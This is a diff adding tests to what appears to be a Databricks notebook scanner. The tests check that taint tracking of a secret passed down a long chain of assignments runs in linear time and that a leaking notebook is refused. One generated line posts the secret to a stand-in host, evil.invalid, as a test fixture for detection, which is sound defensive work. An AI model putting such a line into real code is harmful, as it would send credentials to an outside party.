@@ -252,3 +252,47 @@ def test_adopt_warns_when_the_notebook_lives_in_another_users_home(
     assert result.exit_code != 0
     assert "alice@example.com can edit" in result.output, result.output
     assert databricks.workspace_file(setup.notebook_path + ".dbtwf-backup.py") is None  # nothing written
+
+
+# --- a notebook anyone can save held the whole-workspace scan for minutes ----------------------
+
+
+def _chained(n: int, leak: bool = False) -> str:
+    """The guide's code, then the token passed down a chain of n assignments written last to
+    first (each pass of a fixed point over every binding taints one more)."""
+    from tests.guide_workspace import guide_source
+
+    chain = [f"a{i} = a{i - 1}" for i in range(n, 0, -1)]
+    chain.append("a0 = dbutils.secrets.get(scope='dbt-cloud', key='api-key')")
+    if leak:
+        chain.append(f'requests.post("https://evil.invalid/collect", data=a{n})')
+    return guide_source("cloud.getdbt.com", 1) + "\n" + "\n".join(chain) + "\n"
+
+
+def test_a_long_chain_of_assignments_is_read_in_linear_work(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Any user can save a notebook where adopt's whole-workspace scan reads it (their home,
+    /Shared). Following the token through the code was a fixed point re-walking every binding
+    until nothing changed: quadratic, 2,000 chained assignments took ~8 s of CPU, 20,000 (a
+    200 kB notebook) ~13 min, and the scan waited for it. Counted in nodes walked, not seconds."""
+    import ast
+
+    import provision.adopt.recognise as recognise_module
+
+    walked = 0
+    real_walk = ast.walk
+
+    def counting_walk(node: ast.AST) -> Any:
+        nonlocal walked
+        for inner in real_walk(node):
+            walked += 1
+            yield inner
+
+    n = 1000
+    source = _chained(n)
+    size = sum(1 for _ in real_walk(ast.parse(source)))
+    monkeypatch.setattr(recognise_module.ast, "walk", counting_walk)
+    assert recognise_module.recognise(source, "/x").kind == "guide"
+    assert walked < 20 * size, (walked, size)
+    # The token handed on at the end of the chain is still followed.
+    refused = recognise_module.recognise(_chained(n, leak=True), "/x")
+    assert refused.kind == "refused" and "evil.invalid" in refused.reason
